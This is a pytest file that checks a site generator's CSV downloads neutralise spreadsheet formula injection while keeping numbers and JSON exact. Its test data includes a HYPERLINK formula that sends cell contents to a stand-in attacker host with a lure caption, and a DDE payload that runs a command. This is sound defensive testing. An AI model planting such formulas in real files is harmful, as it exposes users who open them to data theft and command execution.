"""Issue #18, defect 9: a cell that a spreadsheet would read as a formula is
defused in the CSV downloads (a leading ``'``), text columns only; numbers stay
numbers and the JSON downloads stay exact."""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import SampleProject

from generator.pipeline import load_and_check
from generator.site import exports
from generator.site.downloads import FORMULA_START, Table, csv_bytes, defuse

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'
DDE = "=cmd|' /C calc'!A0"


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def exported(minimal: SampleProject) -> dict[str, bytes]:
    minimal.replace("data/notices/2024-001.yaml", "title: {zh: 门禁更换公示,", f"title: {{zh: {json.dumps(DDE)},")
    minimal.replace("data/budgets/budget-lines.schema.yaml",
                    "type: number\n    constraints: {minimum: 0}\n  - name: source",
                    "type: number\n  - name: source")  # a refund: a negative actual amount
    minimal.replace("data/budgets/2024.csv", "办公用品,2000,1800,街道拨款,,",
                    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2000,-120.5,@SUM(1+1),,"\tTab"')
    checked = load_and_check(minimal.root, jobs=1)
    exports._CACHE.clear()
    return exports.export(checked.project, checked.index).files


def test_formula_in_a_title_is_defused_in_the_csv(exported: dict[str, bytes]) -> None:
    row = _rows(exported["notices.csv"])[0]
    assert row["title"] == "'" + DDE
    assert json.loads(exported["notices.json"])[0]["title"]["zh"] == DDE  # the JSON keeps the exact text


def test_budget_text_cells_defused_numbers_kept(exported: dict[str, bytes]) -> None:
    for name in ("budget-lines.csv", "budget-lines-2024.csv"):
        line = {r["id"]: r for r in _rows(exported[name])}["2024-001"]
        assert line["item"] == "'" + HYPERLINK
        assert line["source"] == "'@SUM(1+1)"
        assert line["note"] == "'\tTab"
        assert line["actual"] == "-120.5"  # a number column: an amount, not a formula
        assert line["planned"] == "2000"
    record = next(r for r in json.loads(exported["budget-lines.json"]) if r["id"] == "2024-001")
    assert record["item"] == HYPERLINK and record["actual"] == -120.5 and record["source"] == "@SUM(1+1)"


def test_no_cell_of_any_download_starts_like_a_formula(exported: dict[str, bytes]) -> None:
    """Every CSV of the package: a text cell starting with = + - @ tab or CR is prefixed."""
    package = json.loads(exported["datapackage.json"])
    for resource in package["resources"]:
        types = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
        for row in _rows(exported[resource["path"]]):
            for name, cell in row.items():
                if types[name] in ("integer", "number") and cell:
                    float(cell)
                else:
                    assert not cell.startswith(FORMULA_START), (resource["path"], name, cell)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "-2+3+cmd|' /C calc'!A0",
                                  "=HYPERLINK(\"x\")", "-", "+86 138 0000 0000"])
def test_every_formula_start_in_a_text_column(cell: str) -> None:
    table = Table("t", "t.csv", "t", {"fields": [{"name": "a", "type": "string"}]}, [[cell]])
    assert _rows(csv_bytes(table))[0]["a"] == "'" + cell


@pytest.mark.parametrize(("cell", "kept"), [("-120.5", True), ("+3", True), ("-1e3", True), ("-INF", True),
                                            ("-1+1", False), ("=1", False), ("-", False), ("@1", False)])
def test_number_columns_keep_numbers_only(cell: str, kept: bool) -> None:
    table = Table("t", "t.csv", "t", {"fields": [{"name": "n", "type": "number"}]}, [[cell]])
    assert _rows(csv_bytes(table))[0]["n"] == (cell if kept else "'" + cell)


def test_harmless_cells_are_verbatim() -> None:
    for cell in ("维修养护", "2024-001", "a=b", "1-2", "", " =1", "'=1"):
        assert defuse(cell) == cell
